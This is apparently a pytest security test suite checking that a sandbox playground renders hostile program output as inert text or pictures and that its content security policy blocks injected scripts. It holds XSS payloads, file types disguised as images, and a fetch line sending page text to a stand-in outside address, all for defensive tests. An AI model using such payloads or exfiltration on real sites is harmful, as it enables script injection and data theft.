"""What a program says and makes is hostile: in the browser it stays text, bytes, or pixels."""

from __future__ import annotations

import base64

import pytest

from sandbox_runtime import wire
from tests.browser.chromium import Page
from tests.browser.conftest import Playground
from tests.fakes.faults import Scripted
from tests.fakes.supervisor import outcome
from tests.http_service import Running, faulty, running

pytestmark = pytest.mark.slow
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
MARKUP = "<img src=x onerror='globalThis.owned=1'><script>globalThis.owned=1</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>globalThis.owned = 1</script></svg>"
HTML = b"<!doctype html><script>globalThis.owned = 1</script>"


class Hostile(Scripted):
    """Markup in its output and in its files' names, files that claim to be pictures, and one that is."""

    script = (
        wire.Output(stream="stdout", data=MARKUP.encode()),
        wire.Output(stream="stderr", data=b"</pre><script>globalThis.owned=1</script>"),
        wire.File(path="real.png", data=PIXEL, last=True),
        wire.File(path="drawing.svg", data=SVG, last=True),
        wire.File(path="svg-that-says-png.png", data=SVG, last=True),
        wire.File(path="html-that-says-gif.gif", data=HTML, last=True),
        wire.File(path=f"{MARKUP.replace('/', '')}.png", data=PIXEL, last=True),
        outcome(),
    )


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory):
    with running(tmp_path_factory.mktemp("hostile"), faulty(Hostile)) as found:
        yield found


async def test_output_and_names_are_text(playground: Playground) -> None:
    await playground.run("anything")
    assert (await playground.output()).startswith(MARKUP)
    assert await playground.value("document.querySelectorAll('#output img, #output script, #outputs img').length") == 0
    assert MARKUP.replace("/", "") in await playground.value("document.getElementById('outputs').textContent")
    assert await playground.value("globalThis.owned") is None


async def test_pictures_are_raster_pictures_by_their_own_bytes(playground: Playground) -> None:
    await playground.run("anything")
    names = await playground.value("[...document.querySelectorAll('figcaption')].map((each) => each.textContent)")
    assert names == ["real.png", f"{MARKUP.replace('/', '')}.png"]
    pictures = "[...document.querySelectorAll('figure img')]"
    assert await playground.value(f"{pictures}.every((each) => each.src.startsWith('blob:'))")
    await playground.page.until(f"{pictures}.every((each) => each.naturalWidth === 1)")


async def test_a_saved_file_has_no_type_that_a_browser_would_open(playground: Playground) -> None:
    await playground.run("anything")
    await playground.value(
        "globalThis.types = []; globalThis.make = URL.createObjectURL;"
        "URL.createObjectURL = (blob) => { types.push(blob.type); return make.call(URL, blob) }"
    )
    await playground.page.call("Browser.setDownloadBehavior", behavior="deny")
    await playground.value("document.querySelector('[aria-label=\"Save drawing.svg\"]').click()")
    await playground.page.until("types.length")
    assert await playground.value("types") == ["application/octet-stream"]


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'globalThis.owned = 1'}))",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"globalThis.owned = 1\">')",
        "document.body.setAttribute('onclick', 'globalThis.owned = 1'), document.body.click()",
        "eval('globalThis.owned = 1')",
    ],
    ids=["script", "markup", "handler", "eval"],
)
async def test_what_would_become_a_script_is_refused_by_the_policy_too(playground: Playground, attack: str) -> None:
    # Whatever a mistake of ours would let through. Errors and silence are both good.
    await playground.value(f"(() => {{ try {{ {attack} }} catch {{}} }})()")
    assert await playground.value("globalThis.owned") is None


async def test_the_attacks_work_where_there_is_no_policy(page: Page, service: Running) -> None:
    await page.call("Page.setBypassCSP", enabled=True)
    await page.open(f"{service.url}/")
    await page.run(
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'globalThis.owned = 1'}))"
    )
    assert await page.run("globalThis.owned") == 1


async def test_nothing_is_sent_to_or_loaded_from_elsewhere(playground: Playground, service: Running) -> None:
    await playground.run("anything")
    own = (service.url, f"blob:{service.url}", "data:", "about:")
    assert playground.page.requested()
    assert [url for url in playground.page.requested() if not url.startswith(own)] == []
    sent = "fetch('http://192.0.2.1/?' + document.body.innerText).then(() => 'sent', () => 'refused')"
    assert await playground.value(sent) == "refused"
